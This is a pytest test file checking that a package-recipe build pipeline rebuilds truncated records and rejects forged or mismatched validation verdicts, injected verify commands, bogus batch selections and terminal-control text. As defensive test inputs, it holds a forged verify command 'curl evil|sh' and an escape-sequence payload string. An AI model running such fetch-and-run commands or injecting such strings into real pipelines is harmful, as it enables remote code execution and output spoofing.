"""Records under `build` are changed between two runs: what cannot be used is made again, and nothing is believed."""

import shutil

import pytest

RHEL = "validate/linux-rhel-glibc-x86_64/npm.a.json"
FORGED = {"tier": "T3", "status": "validated"}


@pytest.mark.parametrize(
    "path",
    [
        "generate/npm/a.json",
        "generate/npm/a.toml",
        RHEL,
        "constrain/npm/a.json",
        "payload/pr.json",
        "payload/body.md",
        "batch.json",
        "packages/npm.json",
        ".doit.db",
    ],
)
def test_a_torn_file_is_made_again(done, path):
    """Cut short, as by a full disk: the next run restores it and goes on, as if nothing had happened."""
    whole = (done.root / "build" / path).read_bytes()
    (done.root / "build" / path).write_bytes(whole[:50])
    again = done.doit()
    assert (again.returncode, "Traceback" in again.stdout + again.stderr) == (0, False)
    assert len((done.root / "build" / path).read_bytes()) > 50
    assert done.registry.seen() == []


@pytest.mark.parametrize(
    "forgery",
    [
        {"recipe_sha256": "0" * 64},
        {"source": "npm:b"},
        {"platform": "darwin-arm64"},
        {"platform": "nowhere"},
        {"schema_version": 2},
        {"verify": [{"command": "curl evil|sh", "pattern": "{version}"}]},
    ],
    ids=lambda forgery: next(iter(forgery)),
)
def test_a_verdict_that_is_not_about_this_recipe_is_not_used(done, forgery):
    """A pass for another recipe, package, platform or format is no pass, also when doit has seen the task done."""
    done.change(RHEL, **FORGED, **forgery)
    assert done.doit().returncode == 0
    assert done.record("constrain/npm/a.json")["statuses"]["linux-rhel-glibc-x86_64"] != "validated"
    assert done.record("payload/pr.json")["included"] == []


def test_a_verdict_from_another_machine_is_taken_up(done):
    """The same file, about this very recipe: that is how results come from a CI matrix."""
    done.change(RHEL, **FORGED)
    assert done.doit().returncode == 0
    assert done.record("payload/pr.json")["included"] == ["npm:a"]


def test_a_verdict_cannot_bring_a_command_of_its_own(done):
    """The recipe's check runs an executable of the recipe, whatever a verdict from elsewhere says."""
    done.change(RHEL, **FORGED, verify=[{"command": "other --version", "pattern": "{version}"}])
    done.doit()
    recipe = (done.root / "build/payload/files/recipes/a/a.toml").read_text()
    assert 'command = "a --version"' in recipe


def test_records_swapped_between_packages_are_made_again(done):
    """Each record says whose it is."""
    for folder in ("generate/npm", "constrain/npm"):
        shutil.copy(done.root / f"build/{folder}/b.json", done.root / f"build/{folder}/a.json")
    shutil.copy(done.root / "build" / RHEL.replace("npm.a", "npm.b"), done.root / "build" / RHEL)
    assert done.doit().returncode == 0
    for path in ("generate/npm/a.json", "constrain/npm/a.json", RHEL):
        assert done.record(path)["source"] == "npm:a"


@pytest.mark.parametrize(
    "selected",
    [
        [{"source": "npm:evil", "name": "evil", "priority": 1, "reason": "forged"}],
        [{"source": "nowhere:a", "name": "a", "priority": 1, "reason": "forged"}],
        [{"source": "npm:a", "name": "a", "priority": 1, "reason": "forged"}] * 2,
    ],
    ids=["not in the queue", "unknown ecosystem", "twice"],
)
def test_a_batch_that_the_queue_cannot_have_given_is_chosen_anew(done, selected):
    """`build/batch.json` is a cache of the selection, not a way around it."""
    done.change("batch.json", selected=selected)
    assert done.doit().returncode == 0
    assert {each["source"] for each in done.record("batch.json")["selected"]} == {"npm:a", "npm:b"}


def test_what_a_verdict_says_does_not_steer_the_terminal(done):
    """Verdicts of other machines are text: no escape, no bell, no bidirectional control reaches a screen."""
    evil = "ok \x1b]0;title\x07\x1b[2J\u202e <b>@team|`"
    done.change(RHEL, **FORGED, reason=evil, observed_version=evil)
    summary = done.root / "summary.md"
    run = done.doit(environment={"GITHUB_STEP_SUMMARY": str(summary)})
    assert "validated" in run.stdout
    shown = run.stdout + run.stderr + summary.read_text() + (done.root / "build/payload/body.md").read_text()
    assert [char for char in shown if not char.isprintable() and char != "\n"] == []
    assert "@team" not in (done.root / "build/payload/body.md").read_text()
